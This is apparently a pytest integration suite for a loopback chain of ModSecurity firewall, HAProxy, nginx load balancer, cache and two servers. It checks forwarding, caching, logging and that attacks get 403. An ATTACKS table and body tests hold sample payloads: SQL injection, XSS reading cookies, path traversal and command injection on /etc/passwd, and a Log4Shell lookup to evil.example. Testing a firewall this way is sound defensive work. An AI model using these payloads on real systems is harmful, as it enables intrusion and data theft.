"""Firewall, load balancers, cache and servers, one behind the other on loopback."""

from __future__ import annotations

import json
import re
from collections import Counter
from dataclasses import dataclass

import pytest
from exchange import HOST, get
from running_engine import Engine

from clover.spec.chain import FunctionType

pytestmark = pytest.mark.engines

TRACE = re.compile(r"[0-9a-f]{2}-([0-9a-f]{32})-([0-9a-f]{16})-[0-9a-f]{2}")


@dataclass(frozen=True, slots=True, kw_only=True)
class MiniChain:
    """firewall → HAProxy → nginx (LB) → cache → two servers."""

    firewall: Engine
    haproxy: Engine
    nginx: Engine
    cache: Engine
    servers: tuple[Engine, Engine]

    @property
    def all(self) -> tuple[Engine, ...]:
        return (self.firewall, self.haproxy, self.nginx, self.cache, *self.servers)


@pytest.fixture(scope="module")
def chain(start) -> MiniChain:
    servers = tuple(start(FunctionType.SERVER, "nginx", name=f"server{n}") for n in (1, 2))
    cache = start(FunctionType.CACHE, "nginx", *(server.port for server in servers), name="web-cache")
    nginx = start(FunctionType.LOAD_BALANCER, "nginx", cache.port, name="http-lb-v2")
    haproxy = start(FunctionType.LOAD_BALANCER, "haproxy", nginx.port, name="http-lb-v1")
    firewall = start(FunctionType.FIREWALL, "modsecurity", haproxy.port, name="access-control")
    return MiniChain(firewall=firewall, haproxy=haproxy, nginx=nginx, cache=cache, servers=servers)


def test_a_request_reaches_a_server_that_names_itself(chain):
    answer = get(chain.firewall.port, "/")

    assert answer.status == 200
    assert answer.headers["x-served-by"] in ("server1", "server2")
    function, version, workload, *_ = answer.body.decode().splitlines()
    assert (function, version) == (f"function: {answer.headers['x-served-by']}", "version: v1")
    assert workload == f"workload: {answer.headers['x-served-by']}"


def test_host_traceparent_and_request_id_reach_the_server_unchanged(chain):
    answer = get(chain.firewall.port, "/headers", x_request_id="4711-abc")

    seen = dict(line.split(": ", 1) for line in answer.body.decode().splitlines())
    assert seen["host"] == HOST
    assert seen["traceparent"] == answer.traceparent
    assert seen["x-request-id"] == "4711-abc"


def test_a_host_with_a_port_and_capitals_is_preserved_too(chain):
    seen = get(chain.firewall.port, "/headers?2", Host="Shop.Example:8080").body.decode()

    assert seen.splitlines()[0] == "host: Shop.Example:8080"


def test_each_hop_appends_to_x_forwarded_for_and_keeps_what_the_client_wrote(chain):
    seen = get(chain.firewall.port, "/headers?3", X_Forwarded_For="203.0.113.9").body.decode()

    line = next(line for line in seen.splitlines() if line.startswith("x-forwarded-for: "))
    assert line.removeprefix("x-forwarded-for: ").split(", ") == ["203.0.113.9", *["127.0.0.1"] * 4]


def test_the_second_request_for_a_page_is_a_hit_that_no_server_sees(chain):
    before = sum(len(server.lines) for server in chain.servers)

    first = get(chain.firewall.port, "/bytes/1k?hit")
    second = get(chain.firewall.port, "/bytes/1k?hit")

    assert [first.headers["x-cache-status"], second.headers["x-cache-status"]] == ["MISS", "HIT"]
    assert first.body == second.body
    assert chain.cache.access_of(first.traceparent).cache == "MISS"
    assert chain.cache.access_of(second.traceparent).cache == "HIT"
    assert sum(len(server.lines) for server in chain.servers) <= before + 1


def test_one_hosts_page_is_no_hit_for_another_host(chain):
    first = get(chain.firewall.port, "/?per-host", Host="a.example")
    second = get(chain.firewall.port, "/?per-host", Host="b.example")

    assert [first.headers["x-cache-status"], second.headers["x-cache-status"]] == ["MISS", "MISS"]


def test_what_one_user_may_see_is_not_cached_for_others(chain):
    statuses = [
        get(chain.firewall.port, "/?mine", Authorization="Basic YTpi").headers["x-cache-status"],
        get(chain.firewall.port, "/?mine").headers["x-cache-status"],
        get(chain.firewall.port, "/?mine", Authorization="Basic YTpi").headers["x-cache-status"],
    ]

    assert statuses == ["BYPASS", "MISS", "BYPASS"]


def test_an_answer_that_says_no_store_is_never_a_hit(chain):
    statuses = [get(chain.firewall.port, "/headers?4").headers["x-cache-status"] for _ in range(2)]

    assert statuses == ["MISS", "MISS"]


@pytest.mark.parametrize(("name", "size"), [("1k", 1024), ("10k", 10240), ("100k", 102400)])
def test_a_sample_file_has_the_size_of_its_name(chain, name, size):
    assert len(get(chain.firewall.port, f"/bytes/{name}").body) == size


@pytest.mark.parametrize("code", [200, 204, 301, 404, 429, 500, 503])
def test_a_status_reaches_the_client_untouched(chain, code):
    answer = get(chain.firewall.port, f"/status/{code}")

    assert answer.status == code
    assert answer.headers["x-served-by"].startswith("server")
    if code == 301:
        assert answer.headers["location"] == "/"


def test_servers_take_turns(chain):
    served = Counter(get(chain.firewall.port, f"/headers?turn={n}").headers["x-served-by"] for n in range(10))

    assert served == {"server1": 5, "server2": 5}


def test_connections_to_the_next_hop_are_kept(chain):
    for n in range(6):
        get(chain.firewall.port, f"/headers?keep={n}")
    bodies = [get(chain.firewall.port, f"/headers?kept={n}").body.decode() for n in range(6)]

    served = [int(re.search(r"connection: \d+ request (\d+)", body).group(1)) for body in bodies]
    assert min(served) > 1


def test_every_hop_logs_the_request_under_its_trace_with_all_that_was_asked_for(chain):
    answer = get(chain.firewall.port, "/status/404?logged=yes", x_request_id="r-1")

    for engine in (*chain.all[:4], next(s for s in chain.servers if s.name == answer.headers["x-served-by"])):
        line = engine.wait_for(lambda line: answer.trace_id.encode() in line)
        fields = json.loads(line)
        assert set(fields) - {"cache", "generation", "blocked", "denied"} == {
            *("log", "time", "traceparent", "request_id", "client", "method", "host", "path", "protocol"),
            *("status", "bytes", "duration_ms", "upstream", "upstream_status"),
        }
        assert isinstance(fields["duration_ms"], int)
        entry = engine.access_of(answer.traceparent)
        assert (entry.method, entry.host, entry.path) == ("GET", HOST, "/status/404?logged=yes")
        assert (entry.status, entry.protocol, entry.client) == (404, "HTTP/1.1", "127.0.0.1")
        assert entry.request_id == "r-1"
        assert entry.bytes > 20
        assert 0 <= entry.duration_ms < 5000
        if engine in chain.servers:
            assert (entry.upstream, entry.upstream_status) == ("", "")
        else:
            assert (entry.upstream.split(":")[0], entry.upstream_status) == ("127.0.0.1", "404")


ATTACKS = {
    "sqli": "/?id=1'%20OR%20'1'='1'%20--%20-",
    "sqli-union": "/?id=1%20UNION%20SELECT%20password%20FROM%20users",
    "xss": "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "traversal": "/?file=../../../../etc/passwd",
    "command": "/?cmd=;cat%20/etc/passwd",
    "log4shell": "/?x=$%7Bjndi:ldap://evil.example/a%7D",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_blocked_and_its_lines_carry_the_trace(chain, attack):
    answer = get(chain.firewall.port, ATTACKS[attack])

    assert answer.status == 403
    of_it = answer.trace_id.encode()
    audit = json.loads(chain.firewall.wait_for(lambda line: of_it in line and line.startswith(b'{"transaction"')))
    assert audit["transaction"]["unique_id"] == answer.traceparent
    assert audit["transaction"]["response"]["http_code"] == 403
    assert any(message["details"]["ruleId"] == "949110" for message in audit["transaction"]["messages"])
    denial = chain.firewall.wait_for(lambda line: of_it in line and b"Access denied" in line)
    assert TRACE.search(denial.decode()).group(1) == answer.trace_id
    entry = chain.firewall.access_of(answer.traceparent)
    assert (entry.status, entry.upstream) == (403, "")
    assert of_it not in chain.haproxy.text().encode()


def test_an_attack_in_a_body_is_blocked(chain):
    form = get(
        chain.firewall.port,
        "/status/200",
        method="POST",
        body=b"name=x&comment=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        Content_Type="application/x-www-form-urlencoded",
    )
    document = get(
        chain.firewall.port,
        "/status/200",
        method="POST",
        body=json.dumps({"user": {"name": "' OR 1=1 -- -"}}).encode(),
        Content_Type="application/json",
    )

    assert (form.status, document.status) == (403, 403)


def test_the_audit_record_has_no_headers_and_no_bodies(chain):
    answer = get(chain.firewall.port, ATTACKS["sqli"], Cookie="session=s3cret", Authorization="Bearer t0ken")

    chain.firewall.wait_for(lambda line: answer.trace_id.encode() in line and line.startswith(b'{"transaction"'))
    assert "s3cret" not in chain.firewall.text()
    assert "t0ken" not in chain.firewall.text()


BENIGN = (
    "/",
    "/?q=garden+chairs&page=2",
    "/?name=O'Brien",
    "/bytes/1k?v=1.2.3",
    "/?q=caf%C3%A9%20cr%C3%A8me",
    "/?return=/account/orders",
    "/?from=2026-01-01&to=2026-02-01",
    "/?q=select+a+colour",
    "/?email=ana%40shop.example",
)


@pytest.mark.parametrize("path", BENIGN)
def test_a_benign_request_passes(chain, path):
    assert get(chain.firewall.port, path).status == 200


def test_benign_bodies_pass(chain):
    form = b"name=Ana&text=" + b"A+long+and+friendly+comment.+" * 2000
    assert (
        get(
            chain.firewall.port,
            "/status/200",
            method="POST",
            body=form,
            Content_Type="application/x-www-form-urlencoded",
        ).status
        == 200
    )
    document = json.dumps({"items": [{"sku": f"A-{n}", "count": n} for n in range(300)]}).encode()
    assert (
        get(chain.firewall.port, "/status/200", method="POST", body=document, Content_Type="application/json").status
        == 200
    )


def test_a_numeric_host_is_not_held_against_the_client(chain):
    answer = get(chain.firewall.port, "/?numeric", Host=f"127.0.0.1:{chain.firewall.port}")

    assert answer.status == 200
    entry = chain.firewall.access_of(answer.traceparent)
    assert entry.status == 200
    assert f'"unique_id":"{answer.traceparent}"' not in chain.firewall.text()


def test_a_body_above_the_limit_is_refused_by_every_forwarding_engine(chain):
    for engine in (chain.firewall, chain.haproxy, chain.nginx, chain.cache):
        answer = get(engine.port, "/status/200", method="POST", Content_Length=str(11 * 1024 * 1024), body=b"")
        assert answer.status == 413, engine.name


def test_a_firewall_refuses_text_that_is_too_much_to_inspect_and_says_so(chain):
    answer = get(
        chain.firewall.port,
        "/status/200",
        method="POST",
        body=b"text=" + b"word+" * (300 << 10),
        Content_Type="application/x-www-form-urlencoded",
    )

    assert answer.status == 403
    chain.firewall.wait_for(
        lambda line: answer.trace_id.encode() in line and b"The request body cannot be parsed" in line
    )
